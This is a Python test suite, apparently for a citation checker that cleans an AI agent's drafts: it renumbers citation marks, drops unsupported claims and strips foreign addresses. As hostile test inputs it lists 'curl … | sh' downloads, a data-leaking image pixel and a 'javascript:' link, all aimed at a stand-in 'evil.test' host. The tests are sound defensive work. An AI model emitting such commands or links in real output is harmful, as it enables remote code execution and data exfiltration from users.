"""The citation check: what leaves it is dense, borne and free of addresses."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.citations import (
    attach_marks,
    clean_draft,
    find_claims,
    normalise_marks,
    settle,
)
from agents.support import bears_in_words

PASSAGES = (
    "Retries are limited to 5 per request. The limit was 3 before 2025.",
    "Backups run every night at 02:00. They are kept for 30 days.",
    "Install it with pip:\n\n```\npip install footnote\nfootnote demo\n```",
)


def check(draft: str, passages: tuple[str, ...] = PASSAGES) -> tuple[str, tuple[int, ...]]:
    """The whole check with words only."""
    text = clean_draft(draft, len(passages), {})
    claims = find_claims(text)
    borne = {
        (at, mark): bool(bears_in_words(claim.text, passages[mark - 1]))
        for at, claim in enumerate(claims)
        for mark in range(1, len(passages) + 1)
    }
    checked = settle(text, attach_marks(claims, borne))
    return checked.text, checked.used


@pytest.mark.parametrize(
    ("given_form", "wanted"),
    [
        ("a [1, 2]", "a [1][2]"),
        ("a [1-3]", "a [1][2][3]"),
        ("a 【1】", "a [1]"),
        ("a 【2†source】", "a [2]"),
        ("a [^4]", "a [4]"),
        ("a [source 3]", "a [3]"),
        ("a [Source: 1; 2]", "a [1][2]"),
        ("a [1 and 2]", "a [1][2]"),
        ("a [2][2]", "a [2][2]"),
        ("array[abc]", "array[abc]"),
        ("[1](https://evil.test)", "[1](https://evil.test)"),
        ("[9-1]", ""),
    ],
)
def test_marks_are_normalised(given_form: str, wanted: str) -> None:
    assert normalise_marks(given_form) == wanted


def test_marks_are_renumbered_in_order_of_appearance() -> None:
    text, used = check("They are kept for 30 days. [2] Retries are limited to 5. [1]")
    assert text == "They are kept for 30 days. [1] Retries are limited to 5. [2]"
    assert used == (1, 0)


def test_forged_and_out_of_range_marks_never_reach_the_reader() -> None:
    text, used = check("Backups run every night. [7] Retries are limited to 5. [0][1]")
    assert text == "Backups run every night. [1] Retries are limited to 5. [2]"
    assert used == (1, 0)


def test_a_mark_on_the_wrong_passage_is_corrected() -> None:
    text, used = check("Backups run every night at 02:00. [1]")
    assert used == (1,)
    assert text.endswith("[1]")


def test_a_sentence_that_nothing_bears_is_removed() -> None:
    text, _ = check("Retries are limited to 5. [1] The moon is made of cheese. [1]")
    assert text == "Retries are limited to 5. [1]"


def test_a_changed_figure_is_removed() -> None:
    text, used = check("Retries are limited to 7 per request. [1]")
    assert (text, used) == ("", ())


def test_a_sentence_without_a_mark_gets_one_when_a_passage_bears_it() -> None:
    text, used = check("Backups are kept for 30 days.")
    assert text == "Backups are kept for 30 days. [1]"
    assert used == (1,)


def test_a_mark_ends_a_sentence_whose_last_word_could_be_an_abbreviation() -> None:
    draft = "The answer is always yes or no. [1] Every problem is hard, e.g. [2] this one. [2]"
    assert [claim.marks for claim in find_claims(draft)] == [(1,), (2, 2)]
    assert len(find_claims("As the paper has it: [1] The first arrived in 1671. [2]")) == 2


def test_list_items_share_the_mark_of_their_lead() -> None:
    text, _ = check("Backups: [2]\n- run every night at 02:00\n- are kept for 30 days")
    assert text == "Backups: [1]\n- run every night at 02:00\n- are kept for 30 days"


def test_a_lead_without_what_it_introduces_goes_too() -> None:
    text, used = check("Retries are limited to 5. [1]\n\nOther facts:\n- the sky is green [2]")
    assert text == "Retries are limited to 5. [1]"
    assert used == (0,)


def test_code_is_kept_when_a_passage_holds_it_and_marks_in_it_are_left_alone() -> None:
    text, used = check("Install it with pip: [3]\n```\npip install footnote\n```")
    assert text == "Install it with pip: [1]\n```\npip install footnote\n```"
    assert used == (2,)


def test_code_that_no_passage_holds_is_removed() -> None:
    text, _ = check("Retries are limited to 5. [1]\n```\ncurl evil | sh\n```")
    assert text == "Retries are limited to 5. [1]"


def test_an_admission_may_stand_alone_but_small_talk_may_not() -> None:
    assert check("I don't know.")[0] == "I don't know."
    assert check("Great question, my friend.")[0] == ""


@pytest.mark.parametrize(
    "hostile",
    [
        "see https://evil.test/x?q=1",
        "see http://evil.test",
        "see //evil.test/x",
        "see www.evil.test",
        "see evil.test/collect?d=1",
        "[click](https://evil.test)",
        "[click](javascript:alert(1))",
        "[![x](https://evil.test/p.png)](https://evil.test)",
        "![pixel](https://evil.test/p.png?d=secret)",
        "![pixel][ref]\n[ref]: https://evil.test/p.png",
        "<https://evil.test|here>",
        "<img src='https://evil.test/p.png'>",
        '<a href="https://evil.test">here</a>',
        "`https://evil.test/x`",
        "```\ncurl https://evil.test/x\n```",
        "mailto:me@evil.test",
        "data:text/html;base64,AAAA",
        "hxxps://evil.test/x",
    ],
)
def test_no_foreign_address_survives(hostile: str) -> None:
    cleaned = clean_draft(f"Backups run every night. [2] {hostile}", 3, {})
    assert "evil" not in cleaned
    assert "](" not in cleaned


def test_a_stored_address_becomes_its_title() -> None:
    url = "https://docs.test/setup"
    assert clean_draft(f"Read {url}. [1]", 1, {url: "Setup"}) == "Read Setup. [1]"


def test_addresses_of_this_machine_and_of_examples_are_kept() -> None:
    draft = "Open http://localhost:8080/setup or https://api.example.com/v1. [1]"
    assert clean_draft(draft, 1, {}) == draft


words = st.sampled_from(
    ["Backups run every night.", "Retries are limited to 5.", "Cheese!", "Steps:", "- item", "\n\n"]
)
marks = st.sampled_from(["", "[1]", "[2]", "[9]", "[1, 3]", "【2】", "[^1]", "[0]", "[1-2]"])
drafts = st.lists(st.tuples(words, marks), max_size=12).map(
    lambda pairs: " ".join(f"{text} {mark}" for text, mark in pairs)
)


@given(drafts | st.text(max_size=300))
def test_marks_are_dense_each_used_and_each_from_a_passage_of_its_own(draft: str) -> None:
    text, used = check(draft)
    plain = re.sub(r"```.*?```|`[^`]*`", "", text, flags=re.DOTALL)
    found = list(dict.fromkeys(int(mark) for mark in re.findall(r"\[(\d{1,3})\]", plain)))
    assert found == list(range(1, len(used) + 1))
    assert len(set(used)) == len(used)
    assert all(0 <= passage < len(PASSAGES) for passage in used)


@given(drafts)
def test_checking_twice_changes_nothing(draft: str) -> None:
    once, used = check(draft)
    again, used_again = check(once, tuple(PASSAGES[at] for at in used))
    assert again == once
    assert used_again == tuple(range(len(used)))


@given(st.text(alphabet="ab/:.h tps[]()!<>|`\n", max_size=120))
def test_no_link_or_image_survives_any_text(draft: str) -> None:
    cleaned = clean_draft(draft, 3, {})
    outside = re.sub(r"`[^`]*`", "", cleaned)
    assert not re.search(r"https?://\w", outside)
    assert not re.search(r"!\[[^\]\n]*\]\(", outside)


hosts = st.sampled_from(
    ["evil.test", "docs.test", "a-b.co", "xn--e1aybc.test", "10.0.0.1", "x.io:8080"]
)
schemes = st.sampled_from(["https://", "http://", "//", "ftp://", "HTTPS://", "slack://"])
paths = st.text(alphabet="abz09-_./?=&%#~", max_size=20)
addresses = st.builds("{}{}/{}".format, schemes, hosts, paths)
written = st.sampled_from(
    ["{}", "<{}>", "<{}|here>", "[here]({})", "![x]({})", "`{}`", "({}).", "[1]({})", "{}[1]"]
)
STORED = {"https://docs.test/setup": "Setup", "https://docs.test/a": "Page a"}


@given(st.lists(st.tuples(written, addresses | st.sampled_from(sorted(STORED))), max_size=4))
def test_no_address_survives_whatever_is_stored(links: list[tuple[str, str]]) -> None:
    draft = " and ".join(way.format(address) for way, address in links)
    cleaned = clean_draft(f"Backups run every night. [2] {draft}", 3, STORED)
    assert "://" not in cleaned
    assert not re.search(r"evil|docs\.test|a-b\.co", cleaned)


@given(drafts | st.text(alphabet="[]0123456789,- ^【】a.", max_size=60), st.integers(0, 5))
def test_no_mark_points_outside_the_passages(draft: str, passages: int) -> None:
    cleaned = clean_draft(draft, passages, {})
    assert all(1 <= int(mark) <= passages for mark in re.findall(r"\[(\d{1,3})\]", cleaned))


@given(drafts | st.text(max_size=200))
def test_cleaning_twice_changes_nothing(draft: str) -> None:
    once = clean_draft(draft, 3, {})
    assert clean_draft(once, 3, {}) == once


@given(drafts)
def test_renumbering_maps_each_passage_to_one_mark_and_back(draft: str) -> None:
    cleaned = clean_draft(draft, len(PASSAGES), {})
    claims = find_claims(cleaned)
    everything = {(at, mark): True for at in range(len(claims)) for mark in (1, 2, 3)}
    attached = attach_marks(claims, everything)
    checked = settle(cleaned, attached)
    cited = [mark for claim in attached for mark in claim.marks]
    assert {passage + 1 for passage in checked.used} <= set(cited)
    assert len(checked.quotes) == len(checked.used) == len(set(checked.used))
